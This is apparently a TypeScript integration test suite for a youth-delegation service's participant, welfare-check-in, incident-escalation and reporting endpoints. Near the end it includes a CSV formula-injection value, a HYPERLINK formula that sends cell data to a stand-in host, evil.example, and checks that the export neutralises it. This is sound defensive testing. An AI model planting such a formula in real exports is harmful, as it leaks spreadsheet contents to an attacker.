import { randomUUID } from 'node:crypto';
import { INestApplication } from '@nestjs/common';
import request from 'supertest';
import { parseEnvelope, Topics, withPrefix } from '@twinning/contracts';
import { Role } from '@twinning/platform-auth';
import { loadEnv } from '@twinning/platform-config';
import { createServiceApp } from '@twinning/platform-http';
import { eventually, kafkaBrokers, TestDatabase, TestKafka, testKeys, tokenFor, uniqueTopicPrefix } from '@twinning/testing';
import { delegationsApp } from '../src/app.module';
import { DelegationsEnv } from '../src/config/delegations-env';
import { IncidentsService } from '../src/welfare/application/incidents.service';

/** Participants, check-ins, incidents and reports of the delegations service (in process, real Postgres and Kafka). */
describe('participants, welfare and reports (real Postgres, real Kafka)', () => {
  const prefix = uniqueTopicPrefix();
  const participantTopic = withPrefix(prefix, Topics.participantEvents);
  const incidentTopic = withPrefix(prefix, Topics.incidentEvents);
  const kafka = new TestKafka();
  let db: TestDatabase;
  let app: INestApplication;
  let url: string;
  const orgA = randomUUID();
  const orgB = randomUUID();
  const orgC = randomUUID();
  const tokens = {} as Record<'admin' | 'coordinator' | 'youth' | 'host' | 'partnerCoordinator' | 'partnerAdmin' | 'otherAdmin', string>;
  const api = () => request(url);
  const as = (token: string) => ({
    get: (p: string) => api().get(p).set('authorization', `Bearer ${token}`),
    post: (p: string, body?: object) => api().post(p).set('authorization', `Bearer ${token}`).send(body ?? {}),
    patch: (p: string, body: object) => api().patch(p).set('authorization', `Bearer ${token}`).send(body),
  });

  const student = (over: Record<string, unknown> = {}) => ({
    givenName: 'Lin', familyName: 'Chen', dateOfBirth: '2011-03-02', gender: 'female', languages: ['en', 'zh-Hans'], nationality: 'us',
    dietaryNeeds: { codes: ['vegetarian'] }, allergies: { codes: ['peanut'], note: 'anaphylaxis', needsCoding: false }, medicalNotes: 'carries an EpiPen',
    emergencyContacts: [{ name: 'Wei Chen', relation: 'father', phone: '+1 253 555 0101', email: 'wei@example.org' }],
    guardians: [{ name: 'Wei Chen', relation: 'father', phone: '+1 253 555 0101', consentGivenAt: '2027-01-10T18:00:00Z', consentScope: 'travel, homestay', consentExpiresOn: '2027-12-31' }],
    passportNumber: 'X1234567', passportExpiry: '2030-01-01', visaStatus: 'granted',
    ...over,
  });

  async function delegation(org: string, over: { title?: string; start?: string; end?: string; status?: string; area?: string | null } = {}): Promise<string> {
    const id = randomUUID();
    await db.query(`INSERT INTO delegation (id, organisation_id, title, host_city, start_date, end_date, status, created_by, programme_area) VALUES ($1, $2, $3, 'Fuzhou', $4, $5, $6, $7, $8)`,
      [id, org, over.title ?? `Visit ${id.slice(0, 6)}`, over.start ?? '2027-04-10', over.end ?? '2027-04-18', over.status ?? 'planning', randomUUID(), over.area === undefined ? 'arts-culture' : over.area]);
    return id;
  }
  async function member(delegationId: string, participantId: string, role = 'student'): Promise<void> {
    await db.query(`INSERT INTO delegation_member (id, delegation_id, participant_id, role, lodging_need, added_by) VALUES ($1, $2, $3, $4, 'homestay', $5)`,
      [randomUUID(), delegationId, participantId, role, randomUUID()]);
  }
  async function events(topic: string, filter: (e: ReturnType<typeof parseEnvelope>) => boolean, expected: number) {
    return eventually(async () => {
      const found = (await kafka.readAll(topic)).map((m) => parseEnvelope(m.value)).filter(filter);
      expect(found).toHaveLength(expected);
      return found;
    }, { timeoutMs: 20000, intervalMs: 250 });
  }

  beforeAll(async () => {
    db = await TestDatabase.create('delegations_participants');
    const env = loadEnv(DelegationsEnv, { ...testKeys(), PORT: '0', DATABASE_URL: db.url, KAFKA_BROKERS: kafkaBrokers().join(','), KAFKA_TOPIC_PREFIX: prefix });
    app = await createServiceApp(delegationsApp(env));
    url = (await app.getUrl()).replace('[::1]', '127.0.0.1');
    const t = (organisationId: string, roles: Role[]) => tokenFor({ organisationId, roles });
    tokens.admin = await t(orgA, ['admin']);
    tokens.coordinator = await t(orgA, ['coordinator']);
    tokens.youth = await t(orgA, ['youth-manager']);
    tokens.host = await t(orgA, ['host']);
    tokens.partnerCoordinator = await t(orgB, ['coordinator']);
    tokens.partnerAdmin = await t(orgB, ['admin']);
    tokens.otherAdmin = await t(orgC, ['admin']);
  });

  afterAll(async () => {
    await app?.close();
    await kafka.close();
    await db?.drop();
  });

  it('requires at least one emergency contact and names the field; bad input writes nothing', async () => {
    const before = (await db.query<{ n: number }>(`SELECT count(*)::int AS n FROM participant`))[0].n;
    for (const bad of [{ emergencyContacts: [] }, { emergencyContacts: undefined }]) {
      const res = await as(tokens.youth).post('/api/delegations/participants', student(bad));
      expect(res.status).toBe(400);
      expect(res.body.fields.map((f: { field: string }) => f.field)).toContain('emergencyContacts');
    }
    const cases: [Record<string, unknown>, string][] = [
      [{ gender: 'other' }, 'gender'], [{ nationality: 'USA' }, 'nationality'], [{ dateOfBirth: '2011-13-01' }, 'dateOfBirth'], [{ languages: ['not a tag!'] }, 'languages'],
      [{ emergencyContacts: [{ name: 'x', relation: 'y' }] }, 'emergencyContacts.0.phone'], [{ favouriteColour: 'blue' }, 'favouriteColour'], [{ visaStatus: 'maybe' }, 'visaStatus'],
    ];
    for (const [over, field] of cases) {
      const res = await as(tokens.youth).post('/api/delegations/participants', student(over));
      expect({ field, status: res.status }).toEqual({ field, status: 400 });
      expect(res.body.fields.map((f: { field: string }) => f.field)).toContain(field);
    }
    expect((await db.query<{ n: number }>(`SELECT count(*)::int AS n FROM participant`))[0].n).toBe(before);
    expect((await db.query<{ n: number }>(`SELECT count(*)::int AS n FROM emergency_contact`))[0].n).toBe(0);
  });

  it('shows sensitive fields per role and relation, 404 to another organisation, and what a partner may see via a shared delegation', async () => {
    const created = await as(tokens.youth).post('/api/delegations/participants', student());
    expect(created.status).toBe(201);
    const id = created.body.id as string;
    expect(created.body).toMatchObject({ relation: 'owner', nationality: 'US', medicalNotes: 'carries an EpiPen', allergies: { codes: ['peanut'], note: 'anaphylaxis', needsCoding: false }, passportNumber: 'X1234567' });
    expect(created.body.guardians[0]).toMatchObject({ name: 'Wei Chen', phone: '+1 253 555 0101', consentScope: 'travel, homestay' });

    const coord = await as(tokens.coordinator).get(`/api/delegations/participants/${id}`).expect(200);
    expect(coord.body.allergies).toEqual({ codes: ['peanut'], note: 'anaphylaxis', needsCoding: false });
    expect(coord.body.dietaryNeeds).toEqual({ codes: ['vegetarian'], note: '' });
    expect(coord.body.emergencyContacts).toHaveLength(1);
    expect(coord.body).not.toHaveProperty('medicalNotes');
    expect(coord.body.guardians[0]).not.toHaveProperty('phone');
    expect(coord.body.guardians[0]).not.toHaveProperty('name');
    expect(coord.body.guardians[0].consentGivenAt).toBeTruthy();

    const admin = await as(tokens.admin).get(`/api/delegations/participants/${id}`).expect(200);
    expect(admin.body.medicalNotes).toBe('carries an EpiPen');

    await as(tokens.host).get(`/api/delegations/participants/${id}`).expect(403);
    await as(tokens.otherAdmin).get(`/api/delegations/participants/${id}`).expect(404);
    await as(tokens.partnerCoordinator).get(`/api/delegations/participants/${id}`).expect(404);
    await as(tokens.otherAdmin).patch(`/api/delegations/participants/${id}`, { givenName: 'X' }).expect(404);

    const shared = await delegation(orgA);
    await member(shared, id);
    await db.query(`INSERT INTO delegation_share (delegation_id, partner_organisation_id, shared_by) VALUES ($1, $2, $3)`, [shared, orgB, randomUUID()]);
    const partner = await as(tokens.partnerCoordinator).get(`/api/delegations/participants/${id}`).expect(200);
    expect(partner.body.relation).toBe('partner');
    expect(partner.body.allergies).toEqual({ codes: ['peanut'], note: 'anaphylaxis', needsCoding: false });
    expect(partner.body.dietaryNeeds).toEqual({ codes: ['vegetarian'], note: '' });
    expect(partner.body.emergencyContacts).toHaveLength(1);
    for (const hidden of ['medicalNotes', 'passportNumber']) expect(partner.body).not.toHaveProperty(hidden);
    expect(partner.body.guardians[0]).not.toHaveProperty('phone');
    const partnerAdmin = await as(tokens.partnerAdmin).get(`/api/delegations/participants/${id}`).expect(200);
    for (const hidden of ['medicalNotes', 'allergies', 'dietaryNeeds', 'emergencyContacts', 'passportNumber']) expect(partnerAdmin.body).not.toHaveProperty(hidden);
    // a partner reads, never writes
    await as(tokens.partnerCoordinator).patch(`/api/delegations/participants/${id}`, { givenName: 'X' }).expect(404);
    const history = await as(tokens.partnerCoordinator).get(`/api/delegations/participants/${id}/history`).expect(200);
    expect(history.body.items).toEqual([expect.objectContaining({ delegationId: shared, role: 'student', startDate: '2027-04-10', endDate: '2027-04-18' })]);

    // registered once, with only the non-sensitive fields
    const [registered] = await events(participantTopic, (e) => e.type === 'participant.registered' && e.aggregateId === id, 1);
    expect(registered.payload).toEqual({ participantId: id, givenName: 'Lin', familyName: 'Chen', birthYear: 2011, gender: 'female', languages: ['en', 'zh-Hans'], nationality: 'US', visaStatus: 'granted', createdByUserId: expect.any(String) });
  });

  it('warns when the passport expires before the departure plus six months, and publishes only non-sensitive changes', async () => {
    // a coordinator registers what their role may write (no medical notes, no guardians)
    const p = (await as(tokens.coordinator).post('/api/delegations/participants', student({ givenName: 'Ana', passportExpiry: '2027-09-30', medicalNotes: undefined, guardians: undefined })).expect(201)).body;
    expect(p.warnings).toEqual([]);
    const d = await delegation(orgA, { end: '2027-04-18' });
    await member(d, p.id);
    const got = await as(tokens.coordinator).get(`/api/delegations/participants/${p.id}`).expect(200);
    expect(got.body.warnings).toEqual([expect.objectContaining({ code: 'PASSPORT.EXPIRES_TOO_SOON', delegationId: d, requiredValidUntil: '2027-10-18', passportExpiry: '2027-09-30' })]);
    const renewed = await as(tokens.coordinator).patch(`/api/delegations/participants/${p.id}`, { passportExpiry: '2032-05-01', allergies: { codes: [] } }).expect(200);
    expect(renewed.body.warnings).toEqual([]);
    await as(tokens.youth).patch(`/api/delegations/participants/${p.id}`, { familyName: 'Ortiz', medicalNotes: 'asthma' }).expect(200);
    await as(tokens.coordinator).patch(`/api/delegations/participants/${p.id}`, { emergencyContacts: [] }).expect(400);
    const [updated] = await events(participantTopic, (e) => e.type === 'participant.updated' && e.aggregateId === p.id, 1);
    expect(updated.payload).toMatchObject({ changedFields: ['familyName'], familyName: 'Ortiz' });
    expect(JSON.stringify(updated.payload)).not.toMatch(/asthma|peanut|EpiPen|X1234567|Wei Chen/);
    // the passport expiry travels (for logistics) when registered and when it changes, and only then; never the number
    await as(tokens.coordinator).patch(`/api/delegations/participants/${p.id}`, { passportExpiry: '2032-05-01', givenName: 'Ana María' }).expect(200);
    const documents = await events(participantTopic, (e) => e.type === 'participant.travel-document-changed' && e.aggregateId === p.id, 2);
    expect(documents.map((e) => e.payload)).toEqual([{ participantId: p.id, passportExpiry: '2027-09-30' }, { participantId: p.id, passportExpiry: '2032-05-01' }]);
    const withoutPassport = (await as(tokens.youth).post('/api/delegations/participants', student({ givenName: 'Noor', passportNumber: undefined, passportExpiry: undefined })).expect(201)).body;
    await as(tokens.coordinator).patch(`/api/delegations/participants/${withoutPassport.id}`, { familyName: 'Haddad' }).expect(200);
    await as(tokens.coordinator).patch(`/api/delegations/participants/${withoutPassport.id}`, { passportExpiry: '2031-02-03' }).expect(200);
    const recorded = await events(participantTopic, (e) => e.type === 'participant.travel-document-changed' && e.aggregateId === withoutPassport.id, 1);
    expect(recorded[0].payload).toEqual({ participantId: withoutPassport.id, passportExpiry: '2031-02-03' });
    await events(participantTopic, (e) => e.type === 'participant.travel-document-changed' && e.aggregateId === p.id, 2);
  });

  it('lists with filters, pagination and sort', async () => {
    await as(tokens.youth).post('/api/delegations/participants', student({ givenName: 'Omar', familyName: 'Zahir', dateOfBirth: '1980-01-01', nationality: 'AF' })).expect(201);
    const adults = await as(tokens.youth).get('/api/delegations/participants?minor=false').expect(200);
    expect(adults.body.items.map((x: { familyName: string }) => x.familyName)).toEqual(['Zahir']);
    const af = await as(tokens.youth).get('/api/delegations/participants?nationality=af&q=zah').expect(200);
    expect(af.body.total).toBe(1);
    const page = await as(tokens.youth).get('/api/delegations/participants?limit=1&offset=0&sort=-familyName').expect(200);
    expect(page.body.items).toHaveLength(1);
    expect(page.body.items[0].familyName).toBe('Zahir');
    expect(page.body.total).toBeGreaterThanOrEqual(3);
    await as(tokens.youth).get('/api/delegations/participants?sort=shoeSize').expect(400);
    const other = await as(tokens.otherAdmin).get('/api/delegations/participants').expect(200);
    expect(other.body.total).toBe(0);
  });

  it('records check-ins; a poor rating publishes one welfare alert in the same transaction', async () => {
    const d = await delegation(orgA, { status: 'in-progress' });
    const p = (await as(tokens.youth).post('/api/delegations/participants', student({ givenName: 'Mei' })).expect(201)).body;
    const outsider = (await as(tokens.youth).post('/api/delegations/participants', student({ givenName: 'Not', familyName: 'Member' })).expect(201)).body;
    await member(d, p.id);
    const good = await as(tokens.coordinator).post(`/api/delegations/${d}/check-ins`, { participantId: p.id, method: 'in-person', welfareRating: 4 }).expect(201);
    expect(good.body.alertRaised).toBe(false);
    const poor = await as(tokens.coordinator).post(`/api/delegations/${d}/check-ins`, { participantId: p.id, method: 'phone', welfareRating: 2, notes: 'homesick, not eating' }).expect(201);
    expect(poor.body.alertRaised).toBe(true);
    const notMember = await as(tokens.coordinator).post(`/api/delegations/${d}/check-ins`, { participantId: outsider.id, method: 'phone', welfareRating: 1 }).expect(400);
    expect(notMember.body.fields[0].field).toBe('participantId');
    await as(tokens.coordinator).post(`/api/delegations/${d}/check-ins`, { participantId: p.id, method: 'phone', welfareRating: 6 }).expect(400);
    await as(tokens.otherAdmin).post(`/api/delegations/${d}/check-ins`, { participantId: p.id, method: 'phone', welfareRating: 1 }).expect(404);
    await as(tokens.host).post(`/api/delegations/${d}/check-ins`, { participantId: p.id, method: 'phone', welfareRating: 1 }).expect(403);
    // a check-in cannot be dated tomorrow (a clock a few minutes ahead is tolerated)
    const tomorrow = new Date(Date.now() + 86_400_000).toISOString();
    const future = await as(tokens.coordinator).post(`/api/delegations/${d}/check-ins`, { participantId: p.id, method: 'phone', welfareRating: 4, checkedAt: tomorrow }).expect(400);
    expect(future.body.fields).toEqual([{ field: 'checkedAt', messages: ['checkedAt must not be in the future'] }]);
    await as(tokens.coordinator).post(`/api/delegations/${d}/check-ins`, { participantId: p.id, method: 'phone', welfareRating: 4, checkedAt: new Date(Date.now() + 60_000).toISOString() }).expect(201);
    expect((await db.query<{ n: number }>(`SELECT count(*)::int AS n FROM check_in WHERE delegation_id = $1`, [d]))[0].n).toBe(3);

    const alerts = await events(participantTopic, (e) => e.type === 'welfare.alert-raised' && (e.payload as { delegationId: string }).delegationId === d, 1);
    expect(alerts[0].payload).toMatchObject({ checkInId: poor.body.id, participantId: p.id, welfareRating: 2 });
    expect(JSON.stringify(alerts[0].payload)).not.toContain('homesick');
    await events(participantTopic, (e) => e.type === 'check-in.recorded' && (e.payload as { delegationId: string }).delegationId === d, 3);
    const list = await as(tokens.youth).get(`/api/delegations/${d}/check-ins`).expect(200);
    expect(list.body.total).toBe(3);
  });

  it('runs the escalation clock: an unreported abuse allegation raises the overdue event exactly once', async () => {
    const d = await delegation(orgA, { status: 'in-progress' });
    const p = (await as(tokens.youth).post('/api/delegations/participants', student({ givenName: 'Sam' })).expect(201)).body;
    await member(d, p.id);
    const base = { delegationId: d, participantIds: [p.id], occurredAt: '2026-04-12T08:00:00Z', description: 'allegation made to the chaperone' };
    const abuse = await as(tokens.coordinator).post('/api/delegations/incidents', { ...base, type: 'abuse-allegation', severity: 'high' }).expect(201);
    expect(abuse.body).not.toHaveProperty('description');
    const openedAt = new Date(abuse.body.openedAt).getTime();
    expect(new Date(abuse.body.reportDueAt).getTime() - openedAt).toBe(72 * 3600_000);
    const minor = await as(tokens.coordinator).post('/api/delegations/incidents', { ...base, type: 'illness', severity: 'low' }).expect(201);
    expect(minor.body.reportDueAt).toBeNull();
    const reportedInTime = await as(tokens.youth).post('/api/delegations/incidents', { ...base, type: 'missing-person', severity: 'critical' }).expect(201);
    expect(reportedInTime.body.description).toBe('allegation made to the chaperone');

    const bad = await as(tokens.coordinator).post('/api/delegations/incidents', { ...base, participantIds: [randomUUID()], type: 'injury', severity: 'low' }).expect(400);
    expect(bad.body.fields[0].field).toBe('participantIds');
    await as(tokens.coordinator).post('/api/delegations/incidents', { ...base, type: 'bad', severity: 'low' }).expect(400);
    const later = await as(tokens.coordinator).post('/api/delegations/incidents', { ...base, occurredAt: new Date(Date.now() + 86_400_000).toISOString(), type: 'injury', severity: 'low' }).expect(400);
    expect(later.body.fields[0].field).toBe('occurredAt');
    const reportLater = await as(tokens.youth).post(`/api/delegations/incidents/${reportedInTime.body.id}/report`, { reportedTo: 'Fuzhou police', reportedAt: new Date(Date.now() + 86_400_000).toISOString() }).expect(400);
    expect(reportLater.body.fields[0].field).toBe('reportedAt');

    await as(tokens.coordinator).post(`/api/delegations/incidents/${reportedInTime.body.id}/report`, { reportedTo: 'Fuzhou police' }).expect(403);
    await as(tokens.youth).post(`/api/delegations/incidents/${reportedInTime.body.id}/report`, { reportedTo: 'Fuzhou police' }).expect(200);
    await as(tokens.youth).post(`/api/delegations/incidents/${abuse.body.id}/close`).expect(409);

    const job = app.get(IncidentsService);
    expect(await job.runEscalation(new Date(openedAt + 71 * 3600_000))).toBe(0);
    expect(await job.runEscalation(new Date(openedAt + 73 * 3600_000))).toBe(1);
    expect(await job.runEscalation(new Date(openedAt + 74 * 3600_000))).toBe(0);
    const [overdue] = await events(incidentTopic, (e) => e.type === 'incident.escalation-overdue', 1);
    expect(overdue.aggregateId).toBe(abuse.body.id);
    expect(overdue.payload).not.toHaveProperty('description');
    await events(incidentTopic, (e) => e.type === 'incident.opened' && (e.payload as { delegationId: string }).delegationId === d, 3);
    await events(incidentTopic, (e) => e.type === 'incident.reported', 1);

    const coordList = await as(tokens.coordinator).get(`/api/delegations/incidents?delegationId=${d}&type=abuse-allegation`).expect(200);
    expect(coordList.body.items).toHaveLength(1);
    expect(coordList.body.items[0]).not.toHaveProperty('description');
    expect(coordList.body.items[0].overdueRaisedAt).toBeTruthy();
    const ymList = await as(tokens.youth).get(`/api/delegations/incidents?delegationId=${d}`).expect(200);
    expect(ymList.body.total).toBe(3);
    expect(ymList.body.items[0].description).toBeTruthy();
    expect((await as(tokens.otherAdmin).get(`/api/delegations/incidents?delegationId=${d}`).expect(200)).body.total).toBe(0);
    await as(tokens.youth).post(`/api/delegations/incidents/${abuse.body.id}/report`, { reportedTo: 'Tacoma PD' }).expect(200);
    await as(tokens.youth).post(`/api/delegations/incidents/${abuse.body.id}/close`).expect(200);
  });

  it('reports participants by dimension as JSON and CSV, with overdue check-ins', async () => {
    const org = randomUUID();
    const ym = await tokenFor({ organisationId: org, roles: ['youth-manager'] });
    const coord = await tokenFor({ organisationId: org, roles: ['coordinator'] });
    const live = await delegation(org, { title: 'Jalalabad students in San Diego', status: 'in-progress', area: 'youth-education' });
    const later = await delegation(org, { title: 'Band to Fuzhou', status: 'planning', area: null });
    const mk = async (over: Record<string, unknown>) => (await as(ym).post('/api/delegations/participants', student(over)).expect(201)).body.id as string;
    const a = await mk({ givenName: 'A', dateOfBirth: '2016-06-01', gender: 'female', nationality: 'AF' }); // 10 on 2027-01-01
    const b = await mk({ givenName: 'B', dateOfBirth: '2013-06-01', gender: 'male', nationality: 'AF' }); // 13
    const c = await mk({ givenName: 'C', dateOfBirth: '2010-06-01', gender: 'male', nationality: 'US' }); // 16
    const e = await mk({ givenName: 'E', dateOfBirth: '1990-06-01', gender: 'non-binary', nationality: 'US' }); // 36
    for (const p of [a, b, c]) await member(live, p);
    await member(later, c);
    await member(later, e);
    // a checked in 1 h ago (fine), b 30 h ago (overdue), c never (overdue)
    await db.query(`INSERT INTO check_in (id, delegation_id, participant_id, checked_at, method, welfare_rating, recorded_by) VALUES ($1, $2, $3, now() - interval '1 hour', 'phone', 4, $4), ($5, $2, $6, now() - interval '30 hours', 'phone', 4, $4)`,
      [randomUUID(), live, a, randomUUID(), randomUUID(), b]);

    const json = await as(ym).get('/api/delegations/reports/participants?asOf=2027-01-01').expect(200);
    expect(json.body.totalParticipants).toBe(4);
    expect(json.body.overdueCheckIns).toEqual({ count: 2, thresholdHours: 24 });
    expect(json.body.groups.gender).toEqual([{ key: 'female', label: 'female', count: 1 }, { key: 'male', label: 'male', count: 2 }, { key: 'non-binary', label: 'non-binary', count: 1 }]);
    expect(json.body.groups.ageBand).toEqual([{ key: 'under-12', label: 'under-12', count: 1 }, { key: '12-14', label: '12-14', count: 1 }, { key: '15-17', label: '15-17', count: 1 }, { key: '26+', label: '26+', count: 1 }]);
    expect(json.body.groups.nationality).toEqual([{ key: 'AF', label: 'AF', count: 2 }, { key: 'US', label: 'US', count: 2 }]);
    expect(json.body.groups.programmeArea).toEqual([{ key: 'unspecified', label: 'unspecified', count: 2 }, { key: 'youth-education', label: 'youth-education', count: 3 }]);
    expect(json.body.groups.delegation).toEqual([{ key: later, label: 'Band to Fuzhou', count: 2 }, { key: live, label: 'Jalalabad students in San Diego', count: 3 }]);

    const one = await as(ym).get('/api/delegations/reports/participants?groupBy=gender').expect(200);
    expect(Object.keys(one.body.groups)).toEqual(['gender']);

    const csv = await as(ym).get('/api/delegations/reports/participants?asOf=2027-01-01&groupBy=ageBand').set('accept', 'text/csv').expect(200);
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    expect(csv.text.trim().split('\n')).toEqual([
      'dimension,key,label,count', 'ageBand,under-12,under-12,1', 'ageBand,12-14,12-14,1', 'ageBand,15-17,15-17,1', 'ageBand,26+,26+,1',
      'totalParticipants,,participants,4', 'overdueCheckIns,,members of in-progress delegations with no check-in in 24 h,2',
    ]);
    const csv2 = await as(ym).get('/api/delegations/reports/participants?format=csv&groupBy=delegation').expect(200);
    expect(csv2.text).toContain(`delegation,${live},Jalalabad students in San Diego,3`);
    // a title a spreadsheet would run as a formula comes out inert
    const hostile = await delegation(org, { title: '=HYPERLINK("https://evil.example/?q="&A1,"Open")', status: 'planning', area: null });
    await member(hostile, e);
    const csv3 = (await as(ym).get('/api/delegations/reports/participants?format=csv&groupBy=delegation').expect(200)).text;
    expect(csv3).toContain(`delegation,${hostile},"'=HYPERLINK(""https://evil.example/?q=""&A1,""Open"")",1`);
    expect((await as(ym).get('/api/delegations/reports/participants?asOf=2027-02-30').expect(400)).body.fields.map((f: { field: string }) => f.field)).toEqual(['asOf']);

    await as(coord).get('/api/delegations/reports/participants').expect(403);
    await as(ym).get('/api/delegations/reports/participants?groupBy=shoeSize').expect(400);
  });
});
